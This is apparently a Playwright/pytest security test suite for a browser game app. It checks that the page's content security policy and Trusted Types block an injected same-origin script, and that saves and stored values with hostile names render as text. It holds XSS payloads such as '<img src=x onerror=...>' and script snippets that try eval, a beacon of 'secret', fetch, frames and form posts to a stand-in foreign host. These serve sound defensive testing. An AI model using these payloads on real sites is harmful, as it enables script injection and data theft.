"""The page under attack: by a script that has got in, by saves, by what is stored.

The strict policy has to hold even against code of the page's own origin, and no name in a
save may ever become an element.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from mythshelf.kernel.files.codec import digest_of
from playwright.sync_api import Browser, Page, Route, expect

from .conftest import DEVICES, PATIENCE, READY, Watched
from .table import Table, import_text, saved_where
from .test_saves import HOSTILE, go_on, reload, to_shelf
from .test_screens import finished

TYPES, TRUST = "require-trusted-types-for", "a script from http"
ATTACKS = {
    "eval": (TYPES, "(0, eval)('broken(`eval`)')"),
    "Function": (TYPES, "new Function('broken(`Function`)')()"),
    "timer": (TYPES, "setTimeout('broken(`timer`)', 0)"),
    "inline script": (
        "",
        "const s = document.createElement('script');"
        "s.append('broken(`inline script`)'); document.body.append(s)",
    ),
    "handler": (TYPES, "document.body.setAttribute('onclick', 'broken(`handler`)')"),
    "markup": (
        TYPES,
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=broken(`markup`)>')",
    ),
    "policy": (
        "trusted-types",
        "trustedTypes.createPolicy('mine', {createHTML: text => text}); broken('policy')",
    ),
    "foreign script": (
        TRUST,
        "const s = document.createElement('script'); s.src = FOREIGN; document.body.append(s);",
    ),
    "foreign worker": (TRUST, "new Worker(FOREIGN); broken('worker')"),
    "foreign module": ("script-src-elem", "import(FOREIGN).then(() => broken('module'), () => 0)"),
    "foreign fetch": ("connect-src", "fetch(FOREIGN).then(() => broken('fetch'), () => 0)"),
    "foreign socket": ("connect-src", "new WebSocket(FOREIGN.replace('http', 'ws'))"),
    "beacon": ("connect-src", "navigator.sendBeacon(FOREIGN, 'secret')"),
    "foreign image": ("img-src", "new Image().src = FOREIGN"),
    "data image": ("img-src", "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='"),
    "foreign font": ("font-src", "new FontFace('f', `url(${FOREIGN})`).load().catch(() => 0)"),
    "foreign style": (
        "style-src-elem",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = FOREIGN;"
        "document.head.append(l)",
    ),
    "inline style": (
        "style-src-elem",
        "const s = document.createElement('style'); s.append('body { opacity: 0 }');"
        "document.head.append(s)",
    ),
    "frame": (
        "frame-src",
        "const f = document.createElement('iframe'); f.src = FOREIGN; document.body.append(f)",
    ),
    "object": (
        TRUST,
        "const o = document.createElement('object'); o.data = FOREIGN; document.body.append(o)",
    ),
    "form": (
        "form-action",
        "const f = document.createElement('form'); f.action = FOREIGN; document.body.append(f);"
        "f.submit()",
    ),
    "base": (
        "base-uri",
        "const b = document.createElement('base'); b.href = FOREIGN; document.head.append(b);"
        "if (document.baseURI === FOREIGN) broken('base')",
    ),
}
"""By name: the part of the policy that has to say so, or the words of boot/early.js (a script
with a text of its own is passed over in silence); and the attack."""
NAME = "<img src=x onerror=h()>"
"""As long as a name may be; there is no ``h``, so that a call would be a complaint."""
_INTRUDER = """
globalThis.brokenBy = []; globalThis.thrown = "";
globalThis.broken = how => brokenBy.push(how);
globalThis.stoppedBy ?? addEventListener("securitypolicyviolation",
    event => stoppedBy.push(event.effectiveDirective));
globalThis.stoppedBy = [];
(FOREIGN => {
    try { %s } catch (error) { thrown = String(error); }
    globalThis.intruded = true;
})(%s);
"""


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """Another host, and what it has been asked for."""
    asked: list[str] = []

    class Host(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    host = ThreadingHTTPServer(("127.0.0.1", 0), Host)
    threading.Thread(target=host.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{host.server_port}/", asked
    host.shutdown()
    host.server_close()


def test_the_policy_stops_a_script_that_has_got_in(
    browser: Browser, site_url: str, foreign: tuple[str, list[str]]
) -> None:
    """Each attack runs as a file of the page's own origin, the most that one could get in."""
    address, asked = foreign
    page = browser.new_context(**DEVICES["tablet"]).new_page()
    page.goto(site_url)
    page.wait_for_selector(READY, timeout=PATIENCE, state="attached")
    for name, (directive, code) in ATTACKS.items():
        content = _INTRUDER % (code, json.dumps(address + name.replace(" ", "-")))
        page.unroute_all()
        page.route("**/intruder.js", partial(_fulfil, content))
        page.evaluate(
            """() => { const script = document.createElement("script");
                script.src = "intruder.js"; globalThis.intruded = false;
                document.body.append(script); }"""
        )
        for _ in range(100):  # wait_for_function would itself need eval
            if page.evaluate("intruded") and directive in _resisted(page):
                break
            page.wait_for_timeout(20)
        page.mouse.click(3, 3)
        page.wait_for_timeout(60)
        assert directive in _resisted(page), name
        assert page.evaluate("brokenBy") == [], name
    assert asked == []
    assert page.url == site_url
    page.context.close()


def test_the_page_goes_on_after_the_attacks_of_names(on: Callable[..., Watched]) -> None:
    """A save whose every name is an attack: on the shelf, at the table, in the log, at the end."""
    page = on("tablet").open()
    plain = _elements(page)
    table = Table(page).resume(_hostile(saved_where("TakeAction")))
    assert NAME in page.title()
    for key in ("l", "o", "m"):
        page.keyboard.press(key)
        _is_clean(page)
        page.keyboard.press("Escape")
    table.choose(table.options[0])
    _is_clean(page)
    to_shelf(page)
    expect(page.locator("#continue [data-slot=detail]")).to_contain_text("<img src=x")
    _is_clean(page)
    import_text(page, _hostile(finished()))
    expect(page.locator(".toast")).to_contain_text("<img src=x")
    _is_clean(page)
    page.locator(".toast .button", has_text="table").click()
    Table(page).screen("result")
    expect(page.locator("#receipt-sub")).to_contain_text("<img src=x")
    _is_clean(page)
    page.locator('#result [data-tool="back"]').click()
    assert _elements(page) == plain


def test_what_is_stored_is_not_believed(on: Callable[..., Watched]) -> None:
    """Whatever strings stand in the browser's store, the page starts and shows them as text."""
    page = on("tablet").open()
    Table(page).begin()
    to_shelf(page)
    page.evaluate(
        """text => {
            const spoil = value => typeof value === "string" ? text
                : Array.isArray(value) ? value.map(spoil)
                : value && typeof value === "object"
                ? Object.fromEntries(Object.entries(value).map(([k, v]) =>
                    [k, k === "id" ? v : spoil(v)])) : value;
            for (const key of Object.keys(localStorage)) {
                const stored = localStorage.getItem(key);
                if (stored?.startsWith("{") || stored?.startsWith("["))
                    localStorage.setItem(key, JSON.stringify(spoil(JSON.parse(stored))));
            }
        }""",
        HOSTILE,
    )
    reload(page)
    _is_clean(page)
    page.keyboard.press("m")
    page.locator('#sheet-menu [data-menu="saves"]').click()
    _is_clean(page)
    page.keyboard.press("Escape")
    page.keyboard.press("Escape")
    assert go_on(page).options
    _is_clean(page)


def _resisted(page: Page) -> str:
    """What the browser has said against the attack."""
    return " ".join(page.evaluate("[...stoppedBy, thrown]"))


def _fulfil(content: str, route: Route) -> None:
    route.fulfill(body=content, content_type="text/javascript")


def _hostile(text: str) -> str:
    """The same save with attacks for names, and a checksum that fits."""
    body = json.loads(text)
    names = [NAME, "<script>h()</script>"]
    for key in ("names", "players"):
        if key in body:
            body[key] = names
    assert NAME in json.dumps(body)
    del body["checksum"]
    body["checksum"] = digest_of(body)
    return json.dumps(body)


def _elements(page: Page) -> dict[str, int]:
    """How many elements there are of those that an attack would bring."""
    counts: dict[str, int] = page.evaluate(
        """() => Object.fromEntries(["script", "img", "iframe", "style", "object", "base"]
            .map(tag => [tag, document.querySelectorAll(tag).length]))"""
    )
    return counts


def _is_clean(page: Page) -> None:
    assert page.locator("img[src=x], [onerror], body script:not([src])").count() == 0
